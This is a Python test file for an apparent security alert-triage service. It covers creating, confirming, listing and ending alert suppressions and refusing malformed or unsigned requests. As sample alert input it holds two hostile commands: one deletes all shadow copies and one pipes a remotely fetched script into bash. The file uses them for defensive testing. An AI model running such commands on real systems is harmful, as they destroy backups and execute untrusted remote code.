"""Suppressions on the private listener, in the two signed forms (contract 51 and 56)."""

import uuid
from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Final

import httpx
import pytest

from tests.proxy import NOWHERE, TENANT, Fields, Proxied, encoded, proxied, signed
from tests.routes.test_alerts import decision, finish, get
from tests.triage.samples import alert
from vyrox.alerts.intake import delivery, store
from vyrox.chain.events import event
from vyrox.chain.writer import append
from vyrox.clock import wall_clock
from vyrox.models import NormalizedAlert
from vyrox.settings import Settings
from vyrox.triage.judging import store_verdicts
from vyrox.triage.memory import read_memory
from vyrox.triage.score import Verdict, judge

KEY: Final = "c2VjcmV0LWtleS1vZi10aGUtdGVzdHMtMDEyMzQ1Njc="
SHADOWS: Final = "vssadmin delete shadows /all /quiet"
DOWNLOAD: Final = "curl -fsSL http://203.0.113.7/agent-{}.sh | bash"


@pytest.fixture
async def running(settings: Settings, database_url: str | None) -> AsyncIterator[Proxied]:
    """The listener, on each of the two databases, without Redis."""
    on_each = replace(settings, database_url=database_url, encryption_keys=(KEY,))
    async with proxied(replace(on_each, redis_url=NOWHERE)) as opened:
        await opened.database.write(
            append, [event("alert.accepted", TENANT, None, alert_id="a-0")], wall_clock()
        )
        yield opened


async def arrive(running: Proxied, name: str, command: str, **members: object) -> Verdict:
    """Store an alert and its verdict, as the worker does."""
    now = wall_clock()
    found: NormalizedAlert = alert(command, **{"id": name, "timestamp": now, **members})
    await running.database.write(store, [delivery(found, name.encode(), now)], 86_400)
    memory = await running.database.read(read_memory, found.tenant_id, now)
    verdict = memory.suppressed(found, judge(found))
    await running.database.write(store_verdicts, found.tenant_id, [(found, verdict)], now)
    return verdict


def body(**members: object) -> Fields:
    common = {"tenant_id": TENANT, "request_id": str(uuid.uuid4()), "by": "ann"}
    return {**common, "at": int(wall_clock()), **members}


async def post(running: Proxied, path: str, fields: Fields) -> httpx.Response:
    content = encoded(fields)
    return await running.client.post(path, content=content, headers=signed(content))


async def test_a_suppression_is_previewed_made_listed_and_ended_contract_56(
    running: Proxied,
) -> None:
    await arrive(running, "a-1", DOWNLOAD.format(1))
    shown = await get(running, "/suppressions/preview", like="a-1")
    assert shown.status_code == 200
    assert shown.json()["preview"]["alerts"] == 1
    assert shown.json()["needs_second"] is False
    assert (await get(running, "/suppressions")).json() == {"suppressions": []}

    fields = body(like="a-1", reason="our agent")
    made = await post(running, "/suppressions", fields)
    assert made.status_code == 200
    suppression_id = made.json()["id"]
    assert (made.json()["state"], made.json()["author"]) == ("active", "ann")
    again = await post(running, "/suppressions", fields)
    assert again.content == made.content
    other = await post(running, "/suppressions", {**fields, "reason": "other"})
    assert other.status_code == 422

    verdict = await arrive(running, "a-2", DOWNLOAD.format(2))
    assert verdict.suppression == suppression_id
    listed = (await get(running, "/suppressions")).json()["suppressions"]
    assert [(each["id"], each["hits"]) for each in listed] == [(suppression_id, 1)]
    assert (await get(running, "/suppressions", "initech")).json() == {"suppressions": []}

    path = f"/suppressions/{suppression_id}/end"
    ended = await post(running, path, body(id=suppression_id, reason="moved"))
    assert (ended.json()["state"], ended.json()["end_reason"]) == ("ended", "moved")
    assert (await get(running, "/suppressions")).json() == {"suppressions": []}
    assert len((await get(running, "/suppressions", all="true")).json()["suppressions"]) == 1
    kinds = [each["kind"] for each in await running.events(TENANT)]
    assert kinds[-2:] == ["suppression.created", "suppression.ended"]


async def test_a_second_person_confirms_and_a_malicious_verdict_ends_contract_56(
    running: Proxied,
) -> None:
    await arrive(running, "a-1", SHADOWS)
    made = (await post(running, "/suppressions", body(like="a-1", reason="drill"))).json()
    assert made["state"] == "unconfirmed"
    path = f"/suppressions/{made['id']}/confirm"
    assert (await post(running, path, body(id=made["id"]))).status_code == 409
    assert (await post(running, path, body(id="sup-other"))).status_code == 400
    confirmed = await post(running, path, body(id=made["id"], by="bob"))
    assert (confirmed.json()["state"], confirmed.json()["second"]) == ("active", "bob")
    assert (await arrive(running, "a-2", SHADOWS)).band == "close"

    answer = await finish(running, decision("a-2"))
    assert answer.json()["verdict"] == "malicious"
    assert (await get(running, "/suppressions")).json() == {"suppressions": []}
    assert (await arrive(running, "a-3", SHADOWS)).band == "urgent"
    refused = await post(running, "/suppressions", body(like="a-1", reason="drill"))
    assert (refused.status_code, refused.json()["detail"]) == (
        409,
        "not possible in its present state",
    )


@pytest.mark.parametrize(
    ("members", "status"),
    [
        ({}, 400),
        ({"program": "x"}, 400),
        ({"program": "x", "any_host": True, "families": ["technique"]}, 400),
        ({"program": "x", "any_host": True, "days": 181}, 400),
        ({"program": "x", "any_host": True, "reason": " "}, 400),
        ({"command": "x" * 4097, "any_host": True}, 400),
        ({"like": "a-9"}, 404),
        ({"like": "a-other"}, 404),
        ({"program": "x", "any_host": True, "tenant_id": "unknown"}, 404),
        ({"program": "x", "any_host": True, "at": 1}, 410),
    ],
)
async def test_a_bad_suppression_is_refused_contract_56(
    running: Proxied, members: Fields, status: int
) -> None:
    await arrive(running, "a-other", SHADOWS, tenant_id="initech")
    answer = await post(running, "/suppressions", body(**{"reason": "x", **members}))
    assert answer.status_code == status
    assert (await get(running, "/suppressions", all="true")).json() == {"suppressions": []}


async def test_unsigned_and_mistyped_requests_are_refused_contract_51(running: Proxied) -> None:
    made = await post(running, "/suppressions", body(program="x", any_host=True, reason="x"))
    suppression_id = made.json()["id"]
    for path in ("/suppressions", f"/suppressions/{suppression_id}/end"):
        content = encoded(body(id=suppression_id))
        answer = await running.client.post(path, content=content)
        assert answer.status_code == 401
    for path in ("/suppressions", "/suppressions/preview"):
        assert (await running.client.get(path, params={"tenant_id": TENANT})).status_code == 401
        assert (await get(running, path, nonsense="1")).status_code == 400
    others = body(id=suppression_id, tenant_id="initech")
    assert (await post(running, f"/suppressions/{suppression_id}/end", others)).status_code == 404
    assert len((await get(running, "/suppressions")).json()["suppressions"]) == 1
